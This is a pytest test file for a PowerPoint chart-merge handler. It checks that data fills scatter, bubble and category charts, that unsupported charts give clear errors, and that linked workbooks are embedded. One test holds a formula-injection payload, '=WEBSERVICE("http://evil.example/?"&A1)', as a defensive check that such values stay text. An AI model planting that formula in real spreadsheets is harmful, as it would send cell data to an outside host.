"""Merge into charts of every kind python-pptx can rewrite: category, XY scatter and bubble charts."""

from __future__ import annotations

import base64
import io
import re
import zipfile
from typing import Any

import pytest
from lxml import etree  # type: ignore[import-untyped]
from pptx import Presentation
from pptx.enum.chart import XL_CHART_TYPE

from handlers.common.errors import HandlerError
from handlers.merge import merge, validate
from tests.handlers.builders import b64, chart_deck, rezip

C_NS = "http://schemas.openxmlformats.org/drawingml/2006/chart"
S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def run_merge(template: bytes, data: dict[str, Any], **extra: Any) -> tuple[dict[str, Any], bytes]:
    payload = {"template_base64": b64(template), "data": data, **extra}
    validate(payload)
    result = merge(payload)["data"]
    return result, base64.b64decode(result["file"]["base64"])


def only_chart(deck_bytes: bytes) -> Any:
    deck = Presentation(io.BytesIO(deck_bytes))
    return next(shape for shape in deck.slides[0].shapes if shape.has_chart).chart


XY_TABLE = {"headers": ["X", "North", "South"], "rows": [{"X": 1, "North": 10, "South": 5}, {"X": 2, "North": 20}]}


@pytest.mark.parametrize(
    "chart_type",
    [
        XL_CHART_TYPE.XY_SCATTER,
        XL_CHART_TYPE.XY_SCATTER_LINES,
        XL_CHART_TYPE.XY_SCATTER_LINES_NO_MARKERS,
        XL_CHART_TYPE.XY_SCATTER_SMOOTH,
        XL_CHART_TYPE.XY_SCATTER_SMOOTH_NO_MARKERS,
    ],
    ids=lambda member: member.name,
)
def test_every_xy_scatter_variant_takes_x_then_one_column_per_series(chart_type: XL_CHART_TYPE) -> None:
    result, out = run_merge(chart_deck(chart_type), {"tables": {"points": XY_TABLE}})
    chart = only_chart(out)
    assert chart.chart_type == chart_type  # the chart keeps its look
    assert [series.name for series in chart.series] == ["North", "South"]
    assert [list(series.values) for series in chart.series] == [[10.0, 20.0], [5.0, None]]
    x_values = chart.plots[0]._element.xpath("./c:ser[1]/c:xVal//c:pt/c:v/text()")
    assert x_values == ["1.0", "2.0"]
    assert result["charts_updated"] == 1


BUBBLE_TABLE = {
    "headers": ["X", "Sales", "Sales size", "Cost", "Cost size"],
    "rows": [
        {"X": 1, "Sales": 10, "Sales size": 3, "Cost": 4, "Cost size": 1},
        {"X": 2, "Sales": 20, "Sales size": 6, "Cost": 8, "Cost size": 2},
    ],
}


@pytest.mark.parametrize(
    "chart_type", [XL_CHART_TYPE.BUBBLE, XL_CHART_TYPE.BUBBLE_THREE_D_EFFECT], ids=lambda member: member.name
)
def test_bubble_charts_take_x_then_a_y_and_a_size_column_per_series(chart_type: XL_CHART_TYPE) -> None:
    result, out = run_merge(chart_deck(chart_type), {"tables": {"points": BUBBLE_TABLE}})
    chart = only_chart(out)
    assert chart.chart_type == chart_type
    assert [series.name for series in chart.series] == ["Sales", "Cost"]
    assert [list(series.values) for series in chart.series] == [[10.0, 20.0], [4.0, 8.0]]
    sizes = [ser.xpath("./c:bubbleSize//c:pt/c:v/text()") for ser in chart.plots[0]._element.xpath("./c:ser")]
    assert sizes == [["3.0", "6.0"], ["1.0", "2.0"]]
    assert result["charts_updated"] == 1


def test_a_bubble_table_without_size_columns_names_the_chart_and_the_rule() -> None:
    with pytest.raises(HandlerError, match=r"chart 'chart:points' on slide 1 \(BUBBLE\).*pairs of Y and size"):
        lopsided = {"headers": ["X", "Sales", "Sales size", "Cost"], "rows": [{"X": 1, "Sales": 2, "Cost": 3}]}
        run_merge(chart_deck(XL_CHART_TYPE.BUBBLE), {"tables": {"points": lopsided}})


def test_a_chart_python_pptx_cannot_rewrite_fails_naming_the_chart_and_its_type() -> None:
    template = chart_deck(XL_CHART_TYPE.COLUMN_CLUSTERED)
    chart_part = next(name for name in zipfile.ZipFile(io.BytesIO(template)).namelist() if "charts/chart" in name)
    xml = zipfile.ZipFile(io.BytesIO(template)).read(chart_part)
    # A stock chart (high-low-close) has no python-pptx plot type.
    template = rezip(template, {chart_part: xml.replace(b"c:barChart>", b"c:stockChart>")})
    with pytest.raises(HandlerError) as failure:
        run_merge(template, {"tables": {"points": {"headers": ["Day", "Hi"], "rows": [{"Day": "Mon", "Hi": 1}]}}})
    message = str(failure.value)
    assert "chart 'chart:points' on slide 1" in message and "stockChart" in message
    assert len(message) <= 300


def test_placeholders_in_chart_and_axis_titles_are_replaced_and_unknown_ones_reported() -> None:
    template = chart_deck(XL_CHART_TYPE.COLUMN_CLUSTERED, title="Sales for {{client}}", axis_title="{{unit}} {{nope}}")
    result, out = run_merge(template, {"key_value_pairs": {"client": "ACME", "unit": "EUR"}})
    chart = only_chart(out)
    assert chart.chart_title.text_frame.text == "Sales for ACME"
    assert chart.value_axis.axis_title.text_frame.text == "EUR {{nope}}"
    assert result["replaced"] == 2
    assert result["unknown_placeholders"] == ["chart:points", "nope"]


def test_chart_text_values_that_look_like_formulas_stay_text_in_the_workbook_and_the_cache() -> None:
    attack = '=WEBSERVICE("http://evil.example/?"&A1)'
    table = {
        "headers": ["Month", attack, "+1", "-2", "@SUM(A1)"],
        "rows": [{"Month": attack, attack: 1, "+1": 2, "-2": 3, "@SUM(A1)": 4}, {"Month": "=1+1", attack: 5}],
    }
    _, out = run_merge(chart_deck(XL_CHART_TYPE.COLUMN_CLUSTERED), {"tables": {"points": table}})
    package = zipfile.ZipFile(io.BytesIO(out))
    workbook_name = next(name for name in package.namelist() if name.endswith(".xlsx"))
    workbook = zipfile.ZipFile(io.BytesIO(package.read(workbook_name)))
    sheet = etree.fromstring(workbook.read("xl/worksheets/sheet1.xml"))
    assert sheet.xpath("//s:f", namespaces={"s": S_NS}) == []  # no formula anywhere
    shared = etree.fromstring(workbook.read("xl/sharedStrings.xml"))
    strings = shared.xpath("//s:t/text()", namespaces={"s": S_NS})
    assert {attack, "=1+1", "+1", "-2", "@SUM(A1)"} <= set(strings)
    chart_xml = etree.fromstring(package.read(next(n for n in package.namelist() if "charts/chart" in n)))
    cached = chart_xml.xpath("//c:strCache/c:pt/c:v/text()", namespaces={"c": C_NS})
    assert {attack, "=1+1", "+1", "-2", "@SUM(A1)"} <= set(cached)
    assert chart_xml.xpath("//c:f[contains(text(), 'WEBSERVICE')]", namespaces={"c": C_NS}) == []


def test_a_bound_chart_whose_part_is_missing_fails_naming_the_chart() -> None:
    template = chart_deck(XL_CHART_TYPE.PIE)
    source = zipfile.ZipFile(io.BytesIO(template))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if not (info.filename.startswith("ppt/charts/chart") and info.filename.endswith(".xml")):
                target.writestr(info, source.read(info))
    table = {"headers": ["Slice", "Share"], "rows": [{"Slice": "a", "Share": 1}]}
    with pytest.raises(
        HandlerError, match=r"^chart 'chart:points' on slide 1: the chart's part is missing from the file$"
    ):
        run_merge(out.getvalue(), {"tables": {"points": table}})


@pytest.mark.parametrize("link", ["external workbook", "missing workbook part"])
def test_a_chart_linked_to_a_workbook_elsewhere_gets_its_own_workbook_with_the_data(link: str) -> None:
    template = chart_deck(XL_CHART_TYPE.COLUMN_CLUSTERED)
    package = zipfile.ZipFile(io.BytesIO(template))
    rels_name = next(name for name in package.namelist() if name.startswith("ppt/charts/_rels/"))
    rels = package.read(rels_name).decode()
    if link == "external workbook":  # PowerPoint's "linked" chart: the data lives in the author's file
        rels = re.sub(r'Target="[^"]+"', 'Target="file:///C:/Users/me/Book1.xlsx" TargetMode="External"', rels)
    else:
        rels = re.sub(r"<Relationship [^>]+/>", "", rels)
    template = rezip(template, {rels_name: rels.encode()})
    table = {"headers": ["Month", "Amount"], "rows": [{"Month": "Jan", "Amount": 7}]}

    result, out = run_merge(template, {"tables": {"points": table}})

    chart = only_chart(out)
    assert [(series.name, list(series.values)) for series in chart.series] == [("Amount", [7.0])]
    merged = zipfile.ZipFile(io.BytesIO(out))
    chart_rels = merged.read(next(name for name in merged.namelist() if name.startswith("ppt/charts/_rels/")))
    assert b"External" not in chart_rels and b"../embeddings/" in chart_rels
    workbook = zipfile.ZipFile(io.BytesIO(merged.read(next(n for n in merged.namelist() if n.endswith(".xlsx")))))
    assert b"Amount" in workbook.read("xl/sharedStrings.xml")
    assert result["charts_updated"] == 1


CHARTEX_FRAME = b"""<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">
<mc:Choice xmlns:cx1="http://schemas.microsoft.com/office/drawing/2015/9/8/chartex" Requires="cx1">
<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="99" name="chart:flow"/><p:cNvGraphicFramePr/><p:nvPr/>
</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="100" cy="100"/></p:xfrm><a:graphic>
<a:graphicData uri="http://schemas.microsoft.com/office/drawing/2014/chartex"><cx:chart
 xmlns:cx="http://schemas.microsoft.com/office/drawing/2014/chartex" r:id="rId99"/></a:graphicData>
</a:graphic></p:graphicFrame></mc:Choice><mc:Fallback><p:sp><p:nvSpPr><p:cNvPr id="100" name="fallback"/>
<p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp></mc:Fallback></mc:AlternateContent>"""


def test_a_bound_office_2016_chart_fails_naming_the_chart_and_its_kind() -> None:
    template = chart_deck(XL_CHART_TYPE.PIE)
    slide = zipfile.ZipFile(io.BytesIO(template)).read("ppt/slides/slide1.xml")
    template = rezip(template, {"ppt/slides/slide1.xml": slide.replace(b"</p:spTree>", CHARTEX_FRAME + b"</p:spTree>")})
    flow = {"headers": ["Step", "Amount"], "rows": [{"Step": "start", "Amount": 1}]}

    with pytest.raises(HandlerError, match=r"^chart 'chart:flow' on slide 1 is an Office 2016 chart \(waterfall"):
        run_merge(template, {"tables": {"flow": flow}})
    result, _ = run_merge(template, {})
    assert result["unknown_placeholders"] == ["chart:flow", "chart:points"]


def test_a_chart_without_series_fails_saying_what_the_template_needs() -> None:
    template = chart_deck(XL_CHART_TYPE.LINE)
    part = next(name for name in zipfile.ZipFile(io.BytesIO(template)).namelist() if "charts/chart" in name)
    xml = zipfile.ZipFile(io.BytesIO(template)).read(part)
    template = rezip(template, {part: re.sub(rb"<c:ser>.*?</c:ser>", b"", xml, flags=re.S)})
    table = {"headers": ["Month", "Amount"], "rows": [{"Month": "Jan", "Amount": 7}]}
    with pytest.raises(HandlerError, match=r"^chart 'chart:points' on slide 1 \(LINE_MARKERS\) has no series to copy"):
        run_merge(template, {"tables": {"points": table}})


@pytest.mark.parametrize(
    ("chart_type", "headers"),
    [
        (XL_CHART_TYPE.XY_SCATTER_LINES_NO_MARKERS, ["X", "=HYPERLINK(A1)"]),
        (XL_CHART_TYPE.BUBBLE, ["X", "=HYPERLINK(A1)", "size"]),
    ],
    ids=["xy", "bubble"],
)
def test_xy_and_bubble_series_names_that_look_like_formulas_stay_text(
    chart_type: XL_CHART_TYPE, headers: list[str]
) -> None:
    table = {"headers": headers, "rows": [dict.fromkeys(headers, 1)]}
    _, out = run_merge(chart_deck(chart_type), {"tables": {"points": table}})
    package = zipfile.ZipFile(io.BytesIO(out))
    workbook = zipfile.ZipFile(io.BytesIO(package.read(next(n for n in package.namelist() if n.endswith(".xlsx")))))
    assert etree.fromstring(workbook.read("xl/worksheets/sheet1.xml")).xpath("//s:f", namespaces={"s": S_NS}) == []
    assert "=HYPERLINK(A1)" in etree.fromstring(workbook.read("xl/sharedStrings.xml")).xpath(
        "//s:t/text()", namespaces={"s": S_NS}
    )
    assert [series.name for series in only_chart(out).series] == ["=HYPERLINK(A1)"]


def test_a_chart_whose_type_python_pptx_cannot_name_is_still_filled_by_its_plot_kind() -> None:
    # Without <c:barDir> python-pptx cannot tell a bar from a column chart (chart_type raises);
    # the data a bar plot takes does not depend on it.
    template = chart_deck(XL_CHART_TYPE.COLUMN_CLUSTERED)
    part = next(name for name in zipfile.ZipFile(io.BytesIO(template)).namelist() if "charts/chart" in name)
    xml = zipfile.ZipFile(io.BytesIO(template)).read(part)
    template = rezip(template, {part: re.sub(rb"<c:barDir [^>]*/>", b"", xml)})
    table = {"headers": ["Month", "Amount"], "rows": [{"Month": "Jan", "Amount": 7}]}
    result, out = run_merge(template, {"tables": {"points": table}})
    package = zipfile.ZipFile(io.BytesIO(out))
    chart_xml = etree.fromstring(package.read(part))
    assert chart_xml.xpath("//c:ser/c:val//c:v/text()", namespaces={"c": C_NS}) == ["7.0"]
    assert result["charts_updated"] == 1
